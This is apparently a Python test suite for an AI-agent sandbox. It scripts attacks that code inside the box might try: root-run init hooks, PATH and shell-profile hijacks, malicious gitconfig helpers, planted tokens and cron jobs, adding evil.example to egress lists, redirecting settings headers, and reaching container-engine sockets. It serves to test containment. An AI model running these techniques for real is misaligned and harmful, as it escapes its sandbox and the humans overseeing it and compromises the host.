"""What the box itself is told by files that an agent may write, and engines that are mounted into it."""

import os
import socket

from agent import *
from attack import after, attack


def as_root(case):
    """Root has carried the planted thing out, at the next start of this box or of another one with this ~/.claude."""
    return (case.box.home.folder / f"root/{case.nonce}").exists()


def as_roots():
    return f"#!/bin/sh\n[ $(id -u) != 0 ] || touch /root/{nonce()}\n"


@attack("init-hook", "C3", after(as_root), phase="restart")
def _():
    """A hook in ~/.claude/init.d, which root runs at the next start."""
    write(f"{CLAUDE}/init.d/x.sh", as_roots(), 0o755)


@attack("init-hook-of-root", "C3", after(as_root), phase="restart")
def _():
    """A hook in /etc/claudebox, as whoever the agent can be."""
    for become in (shell, sudo):
        become(f"mkdir -p /etc/claudebox/init.d; printf '%s' '{as_roots()}' >/etc/claudebox/init.d/y.sh; chmod 755 /etc/claudebox/init.d/y.sh")


@attack("init-hook-by-link", "C3", after(as_root), phase="restart")
def _():
    """A link in ~/.claude/init.d to a program of the agent's elsewhere."""
    write("/workspaces/hook", as_roots(), 0o755) if os.access("/workspaces", os.W_OK) else write(f"{HOME}/hook", as_roots(), 0o755)
    target = "/workspaces/hook" if os.path.exists("/workspaces/hook") else f"{HOME}/hook"
    os.symlink(target, f"{CLAUDE}/init.d/z.sh")


@attack("path-of-root", "H9", after(as_root), phase="restart")
def _():
    """Programs that root's hooks call by name, first on their PATH."""
    for folder in (f"{CLAUDE}/bin", f"{HOME}/.local/bin", f"{HOME}/bin"):
        for name in ("bash", "id", "uname", "env"):
            write(f"{folder}/{name}", f"#!/usr/bin/python3\nimport os, sys\nif os.geteuid() == 0:\n    open('/root/{nonce()}', 'w')\n"
                  f"os.execv('/usr/bin/{name}', sys.argv)\n", 0o755)


@attack("environment-of-root", "H9", after(as_root), phase="restart")
def _():
    """Files that a shell of root's could read: ~/.profile, ~/.bashrc, BASH_ENV by ~/.claude/settings.json."""
    for name in (".profile", ".bashrc", ".bash_profile"):
        with open(f"{HOME}/{name}", "a") as file:
            file.write(f"\n[ $(id -u) != 0 ] || touch /root/{nonce()}\n")


@attack("git-of-root", "H9", after(as_root), phase="restart")
def _():
    """~/.gitconfig with programs in it (fsmonitor, ssh), for a git that the start calls."""
    write(f"{HOME}/fsmonitor", as_roots(), 0o755)
    with open(f"{HOME}/.gitconfig", "a") as file:
        file.write(f"[core]\n  fsmonitor = {HOME}/fsmonitor\n  sshCommand = {HOME}/fsmonitor\n[credential]\n  helper = {HOME}/fsmonitor\n")


@attack("own-token", "H7", after(lambda case: case.box.ask("GET", "/status", token=case.nonce)[0] == 200), phase="restart", policy="tokens.yml")
def _():
    """An entry for the attacker in a file of tokens below ~/.claude."""
    import hashlib

    write(f"{CLAUDE}/tokens.yml", json.dumps([{"name": "x", "sha256": hashlib.sha256(nonce().encode()).hexdigest()}]))


@attack("own-job", "H7", after(lambda case: case.nonce in case.box.said() + case.box.ask("GET", "/metrics")[1] or case.has_job()), phase="restart",
        policy="cron.yaml")
def _():
    """A job of the attacker's in a file of jobs below ~/.claude."""
    write(f"{CLAUDE}/cron.yaml", f"jobs:\n  - name: j-{nonce()[:12]}\n    schedule: '* * * * *'\n    workspace: x\n    instruction: hello\n")


@attack("own-list-of-hosts", "design 6", after(lambda case: case.world.seen(case.nonce)), phase="alone")
def _():
    """A host of its own on the list of egress, in the files of policy and of the CLI."""
    for path in ("/etc/claudebox/egress", "/etc/claudebox/egress.yml", f"{CLAUDE}/egress", f"{CLAUDE}/egress.yml"):
        shell(f"echo evil.example:443 >>{path}")
        sudo(f"echo evil.example:443 >>{path}")
    shell("export CLAUDEBOX_EGRESS_ALLOW='*'")
    time.sleep(1)
    tunnel("evil.example:443")


@attack("own-proxy", "design 6", after(lambda case: case.world.seen(case.nonce)), phase="cli")
def _():
    """A proxy, a base URL and a helper of the attacker's in ~/.claude/settings.json: the next run talks to the attacker."""
    path = f"{CLAUDE}/settings.json"
    settings = json.load(open(path)) if os.path.exists(path) else {}
    settings.setdefault("env", {})["ANTHROPIC_CUSTOM_HEADERS"] = f"X-Loot: {nonce()}"
    write(path, json.dumps(settings))


def engine(path):
    """The engine, asked at this path."""
    print(connect(path, None, f"GET /{nonce()} HTTP/1.0\r\n\r\n", socket.AF_UNIX))


def reached(case):
    return case.engine_has_seen(case.nonce)


@attack("docker-socket", "L", after(reached), phase="sockets", socket="/run/docker.sock")
def _():
    """Docker's socket where everybody looks for it."""
    engine("/var/run/docker.sock")


@attack("podman-socket", "L", after(reached), phase="sockets", socket="/run/podman/podman.sock")
def _():
    """Podman's."""
    engine("/run/podman/podman.sock")


@attack("renamed-socket", "L", after(reached), phase="sockets", socket="/tmp/.elsewhere/engine", env={"DOCKER_HOST": "unix:///tmp/.elsewhere/engine"})
def _():
    """One in a place of its own, which DOCKER_HOST names."""
    engine("/tmp/.elsewhere/engine")


@attack("hidden-socket", "L", after(reached), phase="sockets", socket="/workspaces/engine/containerd.sock")
def _():
    """One in a place of its own, which nothing names, found by looking."""
    for path in sockets():
        if path.endswith("containerd.sock"):
            engine(path)
